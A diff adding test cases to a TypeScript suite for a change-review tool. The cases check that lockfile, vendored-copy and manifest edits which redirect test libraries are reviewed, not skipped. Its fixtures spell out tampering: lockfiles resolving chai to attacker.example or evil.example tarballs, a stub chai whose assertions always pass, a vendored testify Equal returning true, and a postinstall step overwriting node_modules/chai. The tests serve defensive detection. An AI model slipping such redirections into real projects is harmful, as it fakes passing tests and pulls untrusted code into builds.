@@ -2049,6 +2049,290 @@ describe('#512 a change to where the test runner or a test-only dependency resol
   });
 });
 
+describe('#524 a lockfile or an installed copy that changes where a test library comes from is reviewed, never a skip', () => {
+  const JS = "const { expect } = require('chai');\nit('adds', () => { expect(1 + 2).to.equal(3); });\n";
+  const PY = 'def test_add():\n    assert 1 + 2 == 3\n';
+  const GO = 'package auth\n\nimport "testing"\n\nfunc TestAuth(t *testing.T) {}\n';
+  const npmLock = (resolved: string, name = 'chai') =>
+    `${JSON.stringify({ lockfileVersion: 3, packages: { '': { name: 'app' }, [`node_modules/${name}`]: { version: '5.0.0', resolved, integrity: 'sha512-x', dev: true } } }, null, 2)}\n`;
+  const NPM = 'https://registry.npmjs.org/chai/-/chai-5.0.0.tgz';
+  const yarnLock = (resolved: string) =>
+    `# yarn lockfile v1\n\n\nchai@^5.0.0:\n  version "5.0.0"\n  resolved "${resolved}"\n  integrity sha512-x\n`;
+  const berryLock = (resolution: string) =>
+    `__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"chai@npm:^5.0.0":\n  version: 5.0.0\n  resolution: "${resolution}"\n  checksum: 10c0/abc\n  languageName: node\n  linkType: hard\n`;
+  const pnpmLock = (resolution: string, version = '5.0.0') =>
+    `lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    devDependencies:\n      chai:\n        specifier: ^5.0.0\n        version: ${version}\n\npackages:\n\n  chai@5.0.0:\n    resolution: ${resolution}\n    engines: {node: '>=12'}\n`;
+  const gemLock = (remote: string) =>
+    `GEM\n  remote: ${remote}\n  specs:\n    rspec (3.13.0)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  rspec\n`;
+  const composerLock = (dist: object) => `${JSON.stringify({ 'packages-dev': [{ name: 'phpunit/phpunit', version: '10.5.0', dist }] })}\n`;
+  const cargoLock = (source: string) => `version = 3\n\n[[package]]\nname = "pretty_assertions"\nversion = "1.4.0"\nsource = "${source}"\n`;
+  const uvLock = (source: string) => `version = 1\n\n[[package]]\nname = "pytest"\nversion = "8.0.0"\nsource = ${source}\n`;
+  test.each<[string, Record<string, string>, Record<string, string>, string]>([
+    [
+      "package-lock.json sending chai to another host's tarball",
+      { 'test/add.spec.js': JS, 'package-lock.json': npmLock(NPM) },
+      { 'package-lock.json': npmLock('https://attacker.example/chai-always-pass.tgz') },
+      'package-lock.json',
+    ],
+    [
+      "package-lock.json sending chai's deep-eql to another package on the same registry",
+      { 'test/add.spec.js': JS, 'package-lock.json': npmLock('https://registry.npmjs.org/deep-eql/-/deep-eql-5.0.1.tgz', 'deep-eql') },
+      { 'package-lock.json': npmLock('https://registry.npmjs.org/deep-eql-fast/-/deep-eql-fast-5.0.1.tgz', 'deep-eql') },
+      'package-lock.json',
+    ],
+    [
+      'yarn.lock sending chai to another host',
+      { 'test/add.spec.js': JS, 'yarn.lock': yarnLock('https://registry.yarnpkg.com/chai/-/chai-5.0.0.tgz') },
+      { 'yarn.lock': yarnLock('https://evil.example/chai.tgz') },
+      'yarn.lock',
+    ],
+    [
+      "berry's yarn.lock resolving chai to another package",
+      { 'test/add.spec.js': JS, 'yarn.lock': berryLock('chai@npm:5.0.0') },
+      { 'yarn.lock': berryLock('chai-always-pass@npm:5.0.0') },
+      'yarn.lock',
+    ],
+    [
+      'pnpm-lock.yaml giving chai a tarball',
+      { 'test/add.spec.js': JS, 'pnpm-lock.yaml': pnpmLock('{integrity: sha512-aa}') },
+      { 'pnpm-lock.yaml': pnpmLock('{tarball: https://evil.example/chai.tgz}') },
+      'pnpm-lock.yaml',
+    ],
+    [
+      "pnpm-lock.yaml linking the importer's chai to a folder",
+      { 'test/add.spec.js': JS, 'pnpm-lock.yaml': pnpmLock('{integrity: sha512-aa}') },
+      { 'pnpm-lock.yaml': pnpmLock('{integrity: sha512-aa}', 'link:stubs/chai') },
+      'pnpm-lock.yaml',
+    ],
+    [
+      'Gemfile.lock moving the gems to another server',
+      { 'spec/cart_spec.rb': 'x\n', 'Gemfile.lock': gemLock('https://rubygems.org/') },
+      { 'Gemfile.lock': gemLock('https://evil.example/') },
+      'Gemfile.lock',
+    ],
+    [
+      'composer.lock taking phpunit from a path',
+      {
+        'tests/CartTest.php': '<?php\n',
+        'composer.lock': composerLock({
+          type: 'zip',
+          url: 'https://api.github.com/repos/sebastianbergmann/phpunit/zipball/0123456789abcdef',
+        }),
+      },
+      { 'composer.lock': composerLock({ type: 'path', url: 'stubs/phpunit' }) },
+      'composer.lock',
+    ],
+    [
+      'Cargo.lock taking an assertion crate from git',
+      { 'tests/a.rs': '#[test]\nfn a() {}\n', 'Cargo.lock': cargoLock('registry+https://github.com/rust-lang/crates.io-index') },
+      { 'Cargo.lock': cargoLock('git+https://evil.example/pa#abc') },
+      'Cargo.lock',
+    ],
+    [
+      'uv.lock taking pytest from a folder',
+      { 'tests/test_add.py': PY, 'uv.lock': uvLock('{ registry = "https://pypi.org/simple" }') },
+      { 'uv.lock': uvLock('{ path = "stubs/pytest" }') },
+      'uv.lock',
+    ],
+    [
+      "a vendored testify's Equal made to pass (go test builds from vendor/)",
+      {
+        'auth/auth_test.go': GO,
+        'vendor/modules.txt': '# github.com/stretchr/testify v1.9.0\n',
+        'vendor/github.com/stretchr/testify/assert/assertions.go': 'package assert\nfunc Equal() bool { return check() }\n',
+      },
+      { 'vendor/github.com/stretchr/testify/assert/assertions.go': 'package assert\nfunc Equal() bool { return true }\n' },
+      'vendor/github.com/stretchr/testify/assert/assertions.go',
+    ],
+    [
+      'vendor/modules.txt replacing testify with a folder',
+      { 'auth/auth_test.go': GO, 'vendor/modules.txt': '# github.com/stretchr/testify v1.9.0\n' },
+      { 'vendor/modules.txt': '# github.com/stretchr/testify v1.9.0 => ./stubs/testify\n' },
+      'vendor/modules.txt',
+    ],
+    [
+      'a committed node_modules/chai',
+      { 'test/add.spec.js': JS, 'node_modules/chai/index.js': "module.exports = require('./lib/chai');\n" },
+      { 'node_modules/chai/index.js': 'module.exports = { expect: () => new Proxy({}, { get: () => () => {} }) };\n' },
+      'node_modules/chai/index.js',
+    ],
+    [
+      "yarn's Plug'n'Play loader",
+      { 'test/add.spec.js': JS, '.pnp.cjs': 'module.exports = {};\n' },
+      { '.pnp.cjs': "module.exports = { chai: './stubs/chai' };\n" },
+      '.pnp.cjs',
+    ],
+    [
+      "package.json's postinstall rewriting the installed chai",
+      { 'test/add.spec.js': JS, 'package.json': '{"scripts":{"test":"mocha"}}\n' },
+      { 'package.json': '{"scripts":{"test":"mocha","postinstall":"cp stubs/chai.js node_modules/chai/index.js"}}\n' },
+      'package.json',
+    ],
+  ])('#524 %s: the file is reviewed, never context', async (_name, base, change, path) => {
+    const v = await scopeOf(base, change);
+    expect(v.files).toContain(path);
+    expect(v.contextFiles).not.toContain(path);
+  });
+  test('#524 package-lock.json sending chai to a stub alone: not a skip, and a finding may name the lockfile', async () => {
+    const dir = twoCommits(
+      { 'test/add.spec.js': JS, 'package-lock.json': npmLock(NPM) },
+      { 'package-lock.json': npmLock('https://attacker.example/chai-always-pass.tgz') },
+    );
+    const r = await review(
+      dir,
+      ownReport(
+        ['package-lock.json'],
+        [{ severity: 'Critical', row: 'C1', path: 'package-lock.json', line: 9, title: 'chai resolved to a tarball that always passes' }],
+      ),
+    );
+    expect(r.code, r.stdout + r.stderr).toBe(1);
+    expect(r.verdict()).toMatchObject({ recommendation: 'Block', files: ['package-lock.json'] });
+    expect(r.verdict().skipped).toBeUndefined();
+  });
+  test('#524 version bumps from the same registries, and new packages there, leave every lockfile noise', async () => {
+    const pkg = (v: string) => `https://registry.npmjs.org/left/-/left-${v}.tgz`;
+    const v = await scopeOf(
+      {
+        'test/add.spec.js': JS,
+        'package-lock.json': npmLock(NPM),
+        'yarn.lock': yarnLock('https://registry.yarnpkg.com/chai/-/chai-5.0.0.tgz#aa'),
+        'pnpm-lock.yaml': pnpmLock('{integrity: sha512-aa}'),
+        'Gemfile.lock': gemLock('https://rubygems.org/'),
+        'Cargo.lock': cargoLock('registry+https://github.com/rust-lang/crates.io-index'),
+        'uv.lock': uvLock('{ registry = "https://pypi.org/simple" }'),
+      },
+      {
+        'package-lock.json': npmLock('https://registry.npmjs.org/chai/-/chai-5.1.0.tgz').replace(
+          '"dev": true\n    }',
+          `"dev": true\n    },\n    "node_modules/left": { "version": "2.0.0", "resolved": "${pkg('2.0.0')}" }`,
+        ),
+        'yarn.lock': yarnLock('https://registry.yarnpkg.com/chai/-/chai-5.1.0.tgz#bb'),
+        'pnpm-lock.yaml': pnpmLock('{integrity: sha512-bb}', '5.1.0'),
+        'Gemfile.lock': gemLock('https://rubygems.org/').replace('3.13.0', '3.13.1'),
+        'Cargo.lock': `${cargoLock('registry+https://github.com/rust-lang/crates.io-index').replace('1.4.0', '1.4.1')}\n[[package]]\nname = "serde"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n`,
+        'uv.lock': uvLock('{ registry = "https://pypi.org/simple" }').replace('8.0.0', '8.1.0'),
+      },
+    );
+    expect(v.files).toEqual([]);
+    expect(v.contextFiles).toEqual([]);
+  });
+});
+
+describe("#525 a package manager's manifest or settings that changes where a test library comes from is reviewed, never a skip", () => {
+  const JS = "const { expect } = require('chai');\nit('adds', () => { expect(1 + 2).to.equal(3); });\n";
+  const PY = 'def test_add():\n    assert 1 + 2 == 3\n';
+  const GEMFILE = 'source "https://rubygems.org"\n\ngem "rails", "~> 7.1"\n';
+  test.each<[string, Record<string, string>, Record<string, string>, string]>([
+    [
+      'a Gemfile taking rspec from a path',
+      { 'spec/cart_spec.rb': 'x\n', Gemfile: `${GEMFILE}gem "rspec", "~> 3.13"\n` },
+      { Gemfile: `${GEMFILE}gem "rspec", path: "./stubs/rspec"\n` },
+      'Gemfile',
+    ],
+    [
+      "a Gemfile taking rspec's diff-lcs from git",
+      { 'spec/cart_spec.rb': 'x\n', Gemfile: `${GEMFILE}gem "diff-lcs", "~> 1.5"\n` },
+      { Gemfile: `${GEMFILE}gem "diff-lcs", git: "https://evil.example/diff-lcs"\n` },
+      'Gemfile',
+    ],
+    [
+      "composer.json's path repository for phpunit",
+      { 'tests/CartTest.php': '<?php\n', 'composer.json': '{"require-dev":{"phpunit/phpunit":"^10"}}\n' },
+      { 'composer.json': '{"repositories":[{"type":"path","url":"./stubs/phpunit"}],"require-dev":{"phpunit/phpunit":"^10"}}\n' },
+      'composer.json',
+    ],
+    [
+      "tsconfig.json's paths mapping chai to a stub",
+      { 'test/add.test.ts': JS, 'tsconfig.json': '{"compilerOptions":{}}\n' },
+      { 'tsconfig.json': '{\n  // bun and tsx follow paths\n  "compilerOptions": { "paths": { "chai": ["./stubs/chai.ts"] }, },\n}\n' },
+      'tsconfig.json',
+    ],
+    [
+      "jsconfig.json's baseUrl",
+      { 'test/add.test.js': JS, 'jsconfig.json': '{"compilerOptions":{}}\n' },
+      { 'jsconfig.json': '{"compilerOptions":{"baseUrl":"stubs"}}\n' },
+      'jsconfig.json',
+    ],
+    [
+      'a Pipfile taking pytest from a path',
+      { 'tests/test_add.py': PY, Pipfile: '[dev-packages]\npytest = "*"\n' },
+      { Pipfile: '[dev-packages]\npytest = {path = "./stubs/pytest", editable = true}\n' },
+      'Pipfile',
+    ],
+    [
+      "a Gradle version catalog swapping junit's module",
+      {
+        'src/test/java/AuthTest.java': 'class AuthTest {}\n',
+        'gradle/libs.versions.toml': '[libraries]\njunit = { module = "org.junit.jupiter:junit-jupiter", version = "5.10.0" }\n',
+      },
+      { 'gradle/libs.versions.toml': '[libraries]\njunit = { module = "io.github.evil:junit-jupiter", version = "5.10.0" }\n' },
+      'gradle/libs.versions.toml',
+    ],
+    [
+      "hatch.toml's environment taking pytest from a file",
+      { 'tests/test_add.py': PY, 'hatch.toml': '[envs.default]\ndependencies = ["pytest"]\n' },
+      { 'hatch.toml': '[envs.default]\ndependencies = ["pytest @ file:///stubs/pytest"]\n' },
+      'hatch.toml',
+    ],
+    [
+      'uv.toml adding an index',
+      { 'tests/test_add.py': PY, 'uv.toml': 'native-tls = true\n' },
+      { 'uv.toml': 'native-tls = true\nindex-url = "https://evil.example/simple"\n' },
+      'uv.toml',
+    ],
+    [
+      'a noxfile installing pytest from a folder',
+      {
+        'tests/test_add.py': PY,
+        'noxfile.py': 'import nox\n\n@nox.session\ndef tests(s):\n    s.install("pytest")\n    s.run("pytest")\n',
+      },
+      { 'noxfile.py': 'import nox\n\n@nox.session\ndef tests(s):\n    s.install("./stubs/pytest")\n    s.run("pytest")\n' },
+      'noxfile.py',
+    ],
+    [
+      "conda's environment.yml installing pytest from a folder",
+      { 'tests/test_add.py': PY, 'environment.yml': 'dependencies:\n  - pytest\n' },
+      { 'environment.yml': 'dependencies:\n  - pip:\n    - -e ./stubs/pytest\n' },
+      'environment.yml',
+    ],
+    [
+      "pubspec.yaml's dependency override",
+      { 'test/cart_test.dart': 'void main() {}\n', 'pubspec.yaml': 'name: app\ndev_dependencies:\n  test: ^1.25.0\n' },
+      { 'pubspec.yaml': 'name: app\ndev_dependencies:\n  test: ^1.25.0\ndependency_overrides:\n  test:\n    path: stubs/test\n' },
+      'pubspec.yaml',
+    ],
+  ])('#525 %s: the file is reviewed, never context', async (_name, base, change, path) => {
+    const v = await scopeOf(base, change);
+    expect(v.files).toContain(path);
+    expect(v.contextFiles).not.toContain(path);
+  });
+  test('#525 a version bump from the registry of a library that is no test library stays context', async () => {
+    const v = await scopeOf(
+      {
+        Gemfile: `${GEMFILE}group :test do\n  gem "webmock", "~> 3.0", require: false\nend\n`,
+        'composer.json': '{"require":{"monolog/monolog":"^2.0"}}\n',
+        'tsconfig.json': '{"compilerOptions":{"strict":false}}\n',
+        Pipfile: '[packages]\nrequests = "==2.31.0"\n',
+        'gradle/libs.versions.toml':
+          '[versions]\nguava = "33.0.0"\n[libraries]\nguava = { module = "com.google.guava:guava", version.ref = "guava" }\n',
+        'pubspec.yaml': 'name: app\ndependencies:\n  http: ^1.1.0\n',
+      },
+      {
+        Gemfile: `${GEMFILE.replace('7.1', '7.2')}group :test do\n  gem "webmock", "~> 3.1", require: false\nend\n`,
+        'composer.json': '{"require":{"monolog/monolog":"^3.0"}}\n',
+        'tsconfig.json': '{"compilerOptions":{"strict":true}}\n',
+        Pipfile: '[packages]\nrequests = "==2.32.0"\n',
+        'gradle/libs.versions.toml':
+          '[versions]\nguava = "33.1.0"\n[libraries]\nguava = { module = "com.google.guava:guava", version.ref = "guava" }\n',
+        'pubspec.yaml': 'name: app\ndependencies:\n  http: ^1.2.0\n',
+      },
+    );
+    expect(v.files).toEqual([]);
+    // pubspec.yaml is an unscorable artifact by its name (`spec`), never context.
+    expect([...v.contextFiles].sort()).toEqual(['Gemfile', 'Pipfile', 'composer.json', 'gradle/libs.versions.toml', 'tsconfig.json']);
+  });
+});
+
 describe('#279 tests of C, C++, Lua, Perl, R, Julia, Clojure, Haskell, Erlang and bats are tests', () => {
   test.each<[string, string, string]>([
     ['src/net/socket_test.cc', 'TEST(Socket, Opens) { EXPECT_TRUE(open()); }\n', 'TEST(Socket, DISABLED_Opens) { EXPECT_TRUE(open()); }\n'],
